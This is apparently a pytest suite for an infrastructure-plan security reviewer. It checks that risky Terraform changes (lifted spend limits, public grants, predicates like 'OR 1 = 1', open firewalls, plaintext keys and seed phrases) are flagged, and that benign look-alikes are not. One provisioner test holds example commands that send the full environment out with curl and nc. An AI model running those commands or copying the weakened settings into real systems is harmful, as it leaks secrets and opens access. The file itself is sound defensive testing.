"""Session 27: what a data platform and a device fleet showed nothing here modelled — spend guards, warehouse grants
and shares, row and masking policies, policy definitions, credentials in property names and config files. Each
principle holds its risky case and lets its benign look-alike pass."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from tests.pipeline.test_rules_detectors_through_configuration import judge, resource
from tfreview.pipeline.credential_names import find_by_key, without_host
from tfreview.pipeline.findings import Severity


def _high(tmp_path: Path, changes: list[dict[str, Any]]) -> set[str]:
    return {rule for rule, severity in judge(tmp_path, changes).items() if severity is Severity.HIGH}


# --- spend guards ---------------------------------------------------------------------------------------------------

WAREHOUSE = {"name": "BI", "warehouse_size": "SMALL", "auto_suspend": 60, "max_cluster_count": 2,
             "resource_monitor": "BI_MONTHLY"}


@pytest.mark.parametrize(("change", "fires"), [
    ({"auto_suspend": 0}, True),                                    # never suspends
    ({"auto_suspend": 0, "warehouse_size": "X4LARGE"}, True),
    ({"auto_suspend": 300}, False),                                 # a longer guard is still a guard
    ({"warehouse_size": "X4LARGE", "max_cluster_count": 10}, False),  # a bigger ceiling alone is a decision
])
def test_a_warehouse_that_never_suspends_is_high(tmp_path: Path, change: dict[str, Any], fires: bool) -> None:
    changes = [resource("snowflake_warehouse.bi", {**WAREHOUSE, **change}, WAREHOUSE)]
    assert ("spend-guard-removed" in _high(tmp_path, changes)) is fires


@pytest.mark.parametrize(("after", "fires"), [
    ({"credit_quota": 40000, "suspend_trigger": 100, "suspend_immediate_trigger": 110}, True),  # hundredfold
    ({"credit_quota": 400, "suspend_trigger": None, "suspend_immediate_trigger": None}, True),  # nothing suspends
    ({"credit_quota": 600, "suspend_trigger": 100, "suspend_immediate_trigger": 110}, False),   # raised by half
])
def test_a_spending_limit_lifted_is_high(tmp_path: Path, after: dict[str, Any], fires: bool) -> None:
    before = {"name": "ACCOUNT", "credit_quota": 400, "suspend_trigger": 100, "suspend_immediate_trigger": 110}
    changes = [resource("snowflake_resource_monitor.account", {**before, **after}, before)]
    assert ("spend-guard-removed" in _high(tmp_path, changes)) is fires


def test_an_sql_endpoint_left_running_is_high_and_one_stopping_sooner_is_not(tmp_path: Path) -> None:
    before = {"name": "bi", "cluster_size": "Medium", "auto_stop_mins": 15, "max_num_clusters": 3}
    never = resource("databricks_sql_endpoint.bi", {**before, "auto_stop_mins": 0, "max_num_clusters": 40}, before)
    sooner = resource("databricks_sql_endpoint.bi", {**before, "auto_stop_mins": 10}, before)
    assert "spend-guard-removed" in _high(tmp_path, [never])
    assert "spend-guard-removed" not in _high(tmp_path, [sooner])


# --- grants to everyone and grants to an admin role ------------------------------------------------------------------

def _grant(role: str) -> dict[str, Any]:
    return resource("snowflake_grant_privileges_to_account_role.finance_select", {
        "account_role_name": f'"{role}"', "privileges": ["SELECT"], "on_account": False,
        "on_schema_object": [{"future": [{"in_schema": '"PROD"."FINANCE"', "object_type_plural": "TABLES"}]}]})


def test_select_granted_to_the_public_role_is_everyone_and_to_a_named_role_is_not(tmp_path: Path) -> None:
    assert "iam-public-member" in _high(tmp_path, [_grant("PUBLIC")])
    assert "iam-public-member" not in _high(tmp_path, [_grant("FINANCE_ANALYST")])


def test_a_custom_role_granted_to_sysadmin_gives_nobody_sysadmin(tmp_path: Path) -> None:
    rolled_up = resource("snowflake_grant_account_role.revenue", {"role_name": "REVENUE_RW",
                                                                  "parent_role_name": "SYSADMIN"})
    made_admin = resource("snowflake_grant_account_role.contractor", {"role_name": "SYSADMIN",
                                                                      "user_name": "CONTRACTOR_BOT"})
    assert "iam-privileged-role" not in _high(tmp_path, [rolled_up])
    assert "iam-privileged-role" in _high(tmp_path, [made_admin])


# --- what a share carries --------------------------------------------------------------------------------------------

def _share_grant(name: str, key: str, target: str) -> dict[str, Any]:
    return resource(f"snowflake_grant_privileges_to_share.{name}",
                    {"to_share": '"PARTNER_SHARE"', "privileges": ["SELECT"], key: target})


@pytest.mark.parametrize(("key", "target", "fires"), [
    ("on_all_tables_in_schema", '"PROD"."SALES"', True),          # a whole schema
    ("on_view", '"PROD"."CRM"."CUSTOMER_CONTACTS"', True),         # people's records
    ("on_view", '"PROD"."SHARE_OUT"."WEEKLY_SELL_THROUGH"', False),  # an aggregate made for the partner
])
def test_a_share_carrying_a_whole_schema_or_peoples_records_is_high(tmp_path: Path, key: str, target: str,
                                                                    fires: bool) -> None:
    assert ("foreign-data-share" in _high(tmp_path, [_share_grant("g", key, target)])) is fires


def test_a_delta_share_gaining_a_contacts_table_is_high(tmp_path: Path) -> None:
    kept = {"name": "agency", "object": [{"name": "prod.marts.campaign_reach", "data_object_type": "TABLE"}]}
    for table, fires in (("prod.crm.contacts", True), ("prod.marts.campaign_spend", False)):
        after = {"name": "agency", "object": [*kept["object"], {"name": table, "data_object_type": "TABLE"}]}
        assert ("foreign-data-share" in _high(tmp_path, [resource("databricks_share.agency", after, kept)])) is fires


# --- predicates that let every session through -----------------------------------------------------------------------

BODY = "EXISTS (SELECT 1 FROM MAP m WHERE m.ROLE_NAME = CURRENT_ROLE() AND m.TENANT_ID = TENANT_ID)"


@pytest.mark.parametrize(("added", "fires"), [
    (" OR 1 = 1", True),
    (" OR CURRENT_ROLE() IS NOT NULL", True),
    (" OR IS_ROLE_IN_SESSION('SUPPORT_BREAKGLASS')", False),  # one more named role is a decision, not everyone
])
def test_a_row_policy_ored_with_a_clause_every_session_meets_is_high(tmp_path: Path, added: str,
                                                                      fires: bool) -> None:
    change = resource("snowflake_row_access_policy.tenant", {"name": "TENANT", "body": BODY + added},
                      {"name": "TENANT", "body": BODY})
    assert ("iam-public-member" in _high(tmp_path, [change])) is fires


def test_a_masking_policy_opened_to_every_role_is_high(tmp_path: Path) -> None:
    before = "CASE WHEN IS_ROLE_IN_SESSION('PII_READER') THEN VAL ELSE '*****' END"
    after = before.replace("THEN", "OR CURRENT_ROLE() IS NOT NULL THEN")
    change = resource("snowflake_masking_policy.email", {"body": after}, {"body": before})
    assert "iam-public-member" in _high(tmp_path, [change])


# --- membership rules that stop naming people ------------------------------------------------------------------------

NAMED = 'user.login=="kfarrow@example.edu" OR user.login=="mnakamura@example.edu"'


@pytest.mark.parametrize(("group", "expression", "fires"), [
    ("it-superadmins", 'user.employeeType=="Staff"', True),
    ("it-superadmins", 'user.login=="kfarrow@example.edu"', False),  # still names its members
    ("library-staff", 'user.employeeType=="Staff"', False),          # not a privileged group
])
def test_a_privileged_rule_that_named_its_members_now_admits_a_population(tmp_path: Path, group: str,
                                                                          expression: str, fires: bool) -> None:
    before = {"name": group, "group_assignments": ["00g1"], "expression_type": "urn:okta:expression:1.0",
              "expression_value": NAMED}
    change = resource("okta_group_rule.members", {**before, "expression_value": expression}, before)
    assert ("iam-privileged-role" in _high(tmp_path, [change])) is fires


# --- policy definitions that allow a weaker value --------------------------------------------------------------------

def _policy(mode: dict[str, Any], encryption: dict[str, Any] | None = None) -> str:
    definition = {"data_security_mode": mode, "autotermination_minutes": {"type": "range", "maxValue": 60}}
    if encryption is not None:
        definition["enable_local_disk_encryption"] = encryption
    return json.dumps(definition)


@pytest.mark.parametrize(("after", "fires"), [
    (_policy({"type": "allowlist", "values": ["SINGLE_USER", "USER_ISOLATION", "NONE"]}), True),
    (_policy({"type": "fixed", "value": "SINGLE_USER"}, {"type": "unlimited"}), True),
    (_policy({"type": "allowlist", "values": ["SINGLE_USER", "USER_ISOLATION"]}), False),  # as strong as before
])
def test_a_cluster_policy_allowing_a_weaker_value_is_high(tmp_path: Path, after: str, fires: bool) -> None:
    before = _policy({"type": "fixed", "value": "SINGLE_USER"}, {"type": "fixed", "value": True})
    change = resource("databricks_cluster_policy.jobs", {"name": "jobs", "definition": after},
                      {"name": "jobs", "definition": before})
    assert bool(_high(tmp_path, [change])) is fires


def test_a_cluster_policy_adding_a_value_no_weaker_than_one_it_allowed_is_quiet(tmp_path: Path) -> None:
    """Isolation weaker than single-user but stronger than NONE, which the policy already allowed: nothing new."""
    before = _policy({"type": "allowlist", "values": ["SINGLE_USER", "NONE"]})
    after = _policy({"type": "allowlist", "values": ["SINGLE_USER", "NONE", "USER_ISOLATION"]})
    change = resource("databricks_cluster_policy.jobs", {"name": "jobs", "definition": after},
                      {"name": "jobs", "definition": before})
    assert not _high(tmp_path, [change])


# --- smaller readings ------------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("after", "fires"), [("1h", True), ("26280h", False)])
def test_a_gc_policy_keeping_an_hour_of_five_years_is_high(tmp_path: Path, after: str, fires: bool) -> None:
    before = {"table": "readings", "column_family": "m", "max_age": [{"duration": "43800h"}]}
    change = resource("google_bigtable_gc_policy.readings", {**before, "max_age": [{"duration": after}]}, before)
    assert ("backup-reduced" in _high(tmp_path, [change])) is fires


@pytest.mark.parametrize(("after", "fires"), [(43200, True), (3600, False)])
def test_device_credentials_valid_far_longer_are_high(tmp_path: Path, after: int, fires: bool) -> None:
    before = {"alias": "uploader", "credential_duration": 900, "role_arn": "arn:aws:iam::111122223333:role/up"}
    change = resource("aws_iot_role_alias.uploader", {**before, "credential_duration": after}, before)
    assert ("auth-weakened" in _high(tmp_path, [change])) is fires


@pytest.mark.parametrize(("after", "fires"), [(True, True), (False, False)])
def test_an_authorizer_that_stops_checking_signatures_is_high(tmp_path: Path, after: bool, fires: bool) -> None:
    before = {"name": "gw", "signing_disabled": False, "token_key_name": "x-token"}
    change = resource("aws_iot_authorizer.gw", {**before, "signing_disabled": after}, before)
    assert ("auth-weakened" in _high(tmp_path, [change])) is fires


@pytest.mark.parametrize(("kind", "fires"), [("databricks_external_location", True), ("acme_dashboard", False)])
def test_a_read_only_storage_location_made_writable_is_high(tmp_path: Path, kind: str, fires: bool) -> None:
    before = {"name": "exports", "url": "s3://lake/exports/", "read_only": True}
    change = resource(f"{kind}.exports", {**before, "read_only": False}, before)
    assert ("auth-weakened" in _high(tmp_path, [change])) is fires


def test_a_taxonomy_that_activates_no_policy_any_more_is_high(tmp_path: Path) -> None:
    before = {"display_name": "pii", "activated_policy_types": ["FINE_GRAINED_ACCESS_CONTROL"]}
    emptied = resource("google_data_catalog_taxonomy.pii", {**before, "activated_policy_types": []}, before)
    renamed = resource("google_data_catalog_taxonomy.pii", {**before, "display_name": "personal-data"}, before)
    assert "protection-disabled" in _high(tmp_path, [emptied])
    assert "protection-disabled" not in _high(tmp_path, [renamed])


def test_a_share_link_setting_on_any_type_opened_to_anyone_is_high(tmp_path: Path) -> None:
    before = {"name": "q3", "access_mode": "named_recipient", "link_access": "disabled"}
    opened = resource("reinsurex_dataset_share.q3", {**before, "link_access": "anyone_with_link"}, before)
    named = resource("reinsurex_dataset_share.q3", {**before, "link_access": "named_recipients"}, before)
    assert "public-access" in _high(tmp_path, [opened])
    assert "public-access" not in _high(tmp_path, [named])


def test_anonymous_clients_allowed_inside_a_config_map_file_is_high(tmp_path: Path) -> None:
    conf = "listener 8883 0.0.0.0\nrequire_certificate true\nallow_anonymous false\n"
    opened = conf + "\nlistener 1883 0.0.0.0\nallow_anonymous true\n"
    tightened = conf + "\nlistener 8884 0.0.0.0\nallow_anonymous false\n"
    for text, fires in ((opened, True), (tightened, False)):
        change = resource("kubernetes_config_map.broker", {"data": {"mosquitto.conf": text}},
                          {"data": {"mosquitto.conf": conf}})
        assert ("iam-wildcard" in _high(tmp_path, [change])) is fires


# --- credentials named before the host a property is for -------------------------------------------------------------

def test_a_property_naming_its_credential_before_a_host_reads_as_the_credential() -> None:
    key = "fs.azure.account.key.acmelake.dfs.core.windows.net"
    assert without_host(key) == "fs.azure.account.key"
    assert find_by_key(key, "tQ8cVb1XhZf0Lk2n9Pq3Rr5sT7uW1yA3cE5gI7kM9oQ1sU3wY5aC7eG9iK1mO3qS5uW7yA9cE1==") == "secret"
    assert find_by_key("fs.azure.account.auth.type.acmelake.dfs.core.windows.net", "OAuth") is None
    assert find_by_key(key, "{{secrets/lake/acmelake-key}}") is None  # a reference to a secret scope


def test_a_storage_key_pasted_into_spark_conf_is_masked_and_reported(tmp_path: Path) -> None:
    key = "fs.azure.account.key.acmelake.dfs.core.windows.net"
    before = {"cluster_name": "etl", "spark_conf": {key: "{{secrets/lake/acmelake-key}}"}}
    after = {"cluster_name": "etl", "spark_conf": {key: "tQ8cVb1XhZf0Lk2n9Pq3Rr5sT7uW1yA3cE5gI7kM9oQ1sU3wY5aC7eG9i=="}}
    assert "credential-in-plan" in _high(tmp_path, [resource("databricks_cluster.etl", after, before)])
    assert "credential-in-plan" not in _high(tmp_path, [resource("databricks_cluster.etl", before, before)])


# --- a device fleet's and an exchange's estate (second wave) ---------------------------------------------------------

def _tenant_module(extra: list[str]) -> tuple[list[dict[str, Any]], dict[str, Any], dict[str, Any]]:
    address = 'module.tenant["tyrell"].aws_security_group_rule.db_clients'
    rule = resource(address, {"type": "ingress", "from_port": 5432, "to_port": 5432, "protocol": "tcp",
                              "cidr_blocks": None}, unknown={"cidr_blocks": True})
    configuration = {"root_module": {"module_calls": {"tenant": {
        "source": "./modules/tenant", "for_each_expression": {"references": ["var.tenants"]},
        "expressions": {"extra_db_cidrs": {"references": ["each.value.extra_db_cidrs", "each.value"]}},
        "module": {"resources": [{"address": "aws_security_group_rule.db_clients", "mode": "managed",
                                  "type": "aws_security_group_rule", "name": "db_clients",
                                  "expressions": {"cidr_blocks": {"references": ["var.extra_db_cidrs"]}}}],
                   "variables": {"extra_db_cidrs": {"default": []}}}}}}}
    variables = {"tenants": {"value": {"tyrell": {"plan": "enterprise", "extra_db_cidrs": extra}}}}
    return [rule], configuration, variables


@pytest.mark.parametrize(("extra", "fires"), [(["0.0.0.0/0"], True), (["10.40.0.0/16"], False)])
def test_a_module_instance_reads_its_own_for_each_value(tmp_path: Path, extra: list[str], fires: bool) -> None:
    changes, configuration, variables = _tenant_module(extra)
    found = judge(tmp_path, changes, configuration=configuration, variables=variables)
    assert (found.get("network-open-ingress") is Severity.HIGH) is fires


def _fortigate(source: str, side: str, service: str = "ALL") -> dict[str, Any]:
    return resource("fortios_firewall_policy.wan_ot", {
        "name": "remote-commissioning", "action": "accept", "srcintf": [{"name": side}],
        "dstintf": [{"name": "vlan210-ot"}], "srcaddr": [{"name": source}], "dstaddr": [{"name": "ot-cell-net"}],
        "service": [{"name": service}], "schedule": "always"})


@pytest.mark.parametrize(("policy", "fires"), [
    (_fortigate("all", "wan1"), True),
    (_fortigate("vendor-jump-hosts", "wan1"), False),   # a named source address object
    (_fortigate("all", "lan"), False),                  # from inside
    (_fortigate("all", "wan1", "HTTPS"), False),        # a public site: the look-alike of 443 on a load balancer
])
def test_a_firewall_policy_letting_every_address_in_from_the_wan_is_high(tmp_path: Path, policy: dict[str, Any],
                                                                         fires: bool) -> None:
    assert ("network-open-ingress" in _high(tmp_path, [policy])) is fires


def test_a_rule_group_rule_from_untrust_for_any_service_is_high(tmp_path: Path) -> None:
    rule = {"name": "vendor-support", "action": "allow", "source_zones": ["untrust"], "source_addresses": ["any"],
            "destination_zones": ["li"], "destination_addresses": ["any"], "applications": ["any"],
            "services": ["any"]}
    web = {**rule, "name": "looking-glass", "applications": ["ssl", "web-browsing"],
           "services": ["application-default"]}
    for added, fires in ((rule, True), (web, False)):
        before = {"rule": [{"name": "deny-all", "action": "deny", "source_zones": ["any"]}]}
        change = resource("panos_security_rule_group.li", {"rule": [added, *before["rule"]]}, before)
        assert ("network-open-ingress" in _high(tmp_path, [change])) is fires


@pytest.mark.parametrize(("hosts", "fires"), [("0.0.0.0 0.0.0.0", True), ("10.20.0.0 255.255.0.0", False)])
def test_an_admin_account_trusting_every_host_is_high(tmp_path: Path, hosts: str, fires: bool) -> None:
    admin = resource("fortios_system_admin.integrator", {"name": "svc", "accprofile": "prof_admin",
                                                         "trusthost1": hosts, "two_factor": "fortitoken"})
    assert ("network-open-ingress" in _high(tmp_path, [admin])) is fires


def test_a_per_tenant_prefix_lifted_to_the_whole_bucket_is_high(tmp_path: Path) -> None:
    def policy(resource_arn: str) -> str:
        return json.dumps({"Version": "2012-10-17", "Statement": [{
            "Sid": "TenantObjects", "Effect": "Allow", "Action": ["s3:GetObject", "s3:PutObject"],
            "Resource": resource_arn}]})
    own = policy("arn:aws:s3:::tenant-data/${aws:PrincipalTag/tenant}/*")
    lifted = resource("aws_iam_policy.tenant_objects", {"name": "t", "policy": policy("arn:aws:s3:::tenant-data/*")},
                      {"name": "t", "policy": own})
    moved = resource("aws_iam_policy.tenant_objects",
                     {"name": "t", "policy": policy("arn:aws:s3:::tenant-data-v2/${aws:PrincipalTag/tenant}/*")},
                     {"name": "t", "policy": own})
    assert "tenant-crossed" in _high(tmp_path, [lifted])
    assert "tenant-crossed" not in _high(tmp_path, [moved])


@pytest.mark.parametrize(("command", "fires"), [
    ("curl -fsS -X POST https://eo3kq8m2.m.pipedream.net/ci --data-binary \"$(env)\"", True),
    ("printenv | nc collector.example.net 9000", True),
    ("curl -fsS -X POST https://cache.internal/warm -d ok", False),
])
def test_a_provisioner_sending_the_whole_environment_is_high(tmp_path: Path, command: str, fires: bool) -> None:
    change = resource("null_resource.warm_cache", {"triggers": None})
    configuration = {"root_module": {"resources": [{
        "address": "null_resource.warm_cache", "mode": "managed", "type": "null_resource", "name": "warm_cache",
        "expressions": {}, "provisioners": [{"type": "local-exec",
                                             "expressions": {"command": {"constant_value": command}}}]}]}}
    found = judge(tmp_path, [change], configuration=configuration)
    assert (found.get("provisioner-command") is Severity.HIGH) is fires


def _key_policy(actions: list[str]) -> dict[str, Any]:
    statements = [{"Sid": "Root", "Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::111122223333:root"},
                   "Action": "kms:*", "Resource": "*"},
                  {"Sid": "Partner", "Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::444455556666:root"},
                   "Action": actions, "Resource": "*"}]
    return resource("aws_kms_key.signer", {"description": "signer", "key_usage": "SIGN_VERIFY",
                                           "policy": json.dumps({"Version": "2012-10-17", "Statement": statements})})


def test_another_account_allowed_to_sign_with_a_key_is_high(tmp_path: Path) -> None:
    found = judge(tmp_path, [_key_policy(["kms:Sign", "kms:GetPublicKey"])])
    assert found.get("iam-public-member") is Severity.HIGH
    assert judge(tmp_path, [_key_policy(["kms:GetPublicKey", "kms:Verify"])]).get("iam-public-member") \
        is not Severity.HIGH


PHRASE = "fabric ocean velvet ladder amused garlic trophy noble winter ripple gossip orbit"


@pytest.mark.parametrize(("name", "value", "fires"), [
    ("/custody/hot/sweeper/seed", PHRASE, True),
    ("/custody/hot/sweeper/notes", PHRASE, False),                       # not named as a seed
    ("/custody/hot/sweeper/seed", "rotate monthly with the custody team", False),  # not a phrase's shape
])
def test_a_wallet_seed_phrase_in_a_plain_parameter_is_masked(tmp_path: Path, name: str, value: str,
                                                             fires: bool) -> None:
    parameter = resource("aws_ssm_parameter.seed", {"name": name, "type": "String", "insecure_value": value})
    assert ("credential-in-plan" in _high(tmp_path, [parameter])) is fires


@pytest.mark.parametrize(("port", "severity"), [("30303", Severity.MEDIUM), ("8545", Severity.HIGH)])
def test_a_peer_to_peer_port_open_to_the_world_is_by_design(tmp_path: Path, port: str, severity: Severity) -> None:
    rule = {"direction": "in", "protocol": "tcp", "port": port, "source_ips": ["0.0.0.0/0", "::/0"]}
    change = resource("hcloud_firewall.nodes", {"name": "nodes", "rule": [rule]}, {"name": "nodes", "rule": []})
    assert judge(tmp_path, [change]).get("network-open-ingress") is severity


# --- a platform team's GitOps estate and an airline's segments (third wave) ------------------------------------------

def _values(snippets: str) -> str:
    return f'controller:\n  config:\n    allow-snippet-annotations: "{snippets}"\n    use-forwarded-headers: "true"\n'


@pytest.mark.parametrize(("after", "fires"), [("true", True), ("false", False)])
def test_ingress_snippets_allowed_again_in_chart_values_is_high(tmp_path: Path, after: str, fires: bool) -> None:
    change = resource("helm_release.ingress_nginx", {"name": "ingress-nginx", "values": [_values(after)]},
                      {"name": "ingress-nginx", "values": [_values("false")]})
    assert ("auth-weakened" in _high(tmp_path, [change])) is fires


def _gatekeeper(excluded: list[str]) -> dict[str, Any]:
    return {"manifest": {"apiVersion": "config.gatekeeper.sh/v1alpha1", "kind": "Config",
                         "spec": {"match": [{"excludedNamespaces": excluded, "processes": ["*"]}]}}}


@pytest.mark.parametrize(("added", "fires"), [("team-*", True), ("kube-*", False), ("monitoring", False)])
def test_a_policy_exempting_a_whole_family_of_namespaces_is_high(tmp_path: Path, added: str, fires: bool) -> None:
    base = ["kube-system", "gatekeeper-system"]
    change = resource("kubernetes_manifest.gatekeeper_config", _gatekeeper([*base, added]), _gatekeeper(base))
    assert ("detection-disabled" in _high(tmp_path, [change])) is fires


def _attestor(subject: str) -> dict[str, Any]:
    entry = {"keyless": {"issuer": "https://token.actions.githubusercontent.com", "subject": subject}}
    return {"manifest": {"kind": "ClusterPolicy", "spec": {"rules": [{"verifyImages": [{"attestors": [{
        "entries": [entry]}]}]}]}}}


@pytest.mark.parametrize(("subject", "fires"), [
    ("https://github.com/*", True),                                            # every workflow of every org
    ("https://github.com/acme/*/.github/workflows/release.yml@refs/heads/main", False),
])
def test_a_keyless_signer_widened_to_a_whole_code_host_is_high(tmp_path: Path, subject: str, fires: bool) -> None:
    pinned = "https://github.com/acme/app/.github/workflows/release.yml@refs/heads/main"
    change = resource("kubernetes_manifest.verify_images", _attestor(subject), _attestor(pinned))
    assert ("allowlist-emptied" in _high(tmp_path, [change])) is fires


@pytest.mark.parametrize(("source", "target", "ports", "fires"), [
    ("pax-wifi", "kiosk-payment", ["any"], True),
    ("pax-wifi", "internet", ["any"], False),          # guests reaching the internet is what the segment is for
    ("pax-wifi", "kiosk-payment", ["443"], False),     # one service, not every one
    ("ops-lan", "kiosk-payment", ["any"], False),      # an inside segment
])
def test_a_guest_segment_allowed_every_service_inward_is_high(tmp_path: Path, source: str, target: str,
                                                               ports: list[str], fires: bool) -> None:
    policy = resource("gatewise_segment_policy.diag", {"name": "vendor-diag", "action": "permit",
                                                       "source_segment": source, "destination_segment": target,
                                                       "ports": ports, "protocols": ["any"]})
    assert ("network-open-ingress" in _high(tmp_path, [policy])) is fires


# --- a security team's own tooling (fourth wave) ---------------------------------------------------------------------

def _recorder(every: bool, strategy: str = "INCLUSION_BY_RESOURCE_TYPES") -> dict[str, Any]:
    return {"name": "default", "recording_group": [{
        "all_supported": every, "resource_types": [] if every else ["AWS::EC2::Instance"],
        "recording_strategy": [{"use_only": "ALL_SUPPORTED_RESOURCE_TYPES" if every else strategy}]}]}


@pytest.mark.parametrize(("after", "fires"), [
    (_recorder(False), True),                                     # only the types it lists
    (_recorder(False, "EXCLUSION_BY_RESOURCE_TYPES"), False),     # every type but a few noisy ones
])
def test_a_config_recorder_narrowed_to_a_list_is_high(tmp_path: Path, after: dict[str, Any], fires: bool) -> None:
    change = resource("aws_config_configuration_recorder.default", after, _recorder(True))
    assert ("logging-disabled" in _high(tmp_path, [change])) is fires


def _trust(condition: dict[str, Any] | None) -> str:
    statement: dict[str, Any] = {"Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::111122223333:root"},
                                 "Action": "sts:AssumeRole"}
    if condition:
        statement["Condition"] = condition
    return json.dumps({"Version": "2012-10-17", "Statement": [statement]})


MFA = {"Bool": {"aws:MultiFactorAuthPresent": "true"}}


@pytest.mark.parametrize(("after", "fires"), [
    (None, True),                                                        # anyone in the account may assume
    ({"Bool": {"aws:MultiFactorAuthPresent": "true"},
      "StringEquals": {"aws:PrincipalTag/breakglass": "approved"}}, False),  # a condition added, not dropped
])
def test_a_break_glass_trust_dropping_its_conditions_is_high(tmp_path: Path, after: dict[str, Any] | None,
                                                             fires: bool) -> None:
    change = resource("aws_iam_role.breakglass", {"name": "breakglass", "assume_role_policy": _trust(after)},
                      {"name": "breakglass", "assume_role_policy": _trust(MFA)})
    assert ("iam-open-trust" in _high(tmp_path, [change])) is fires
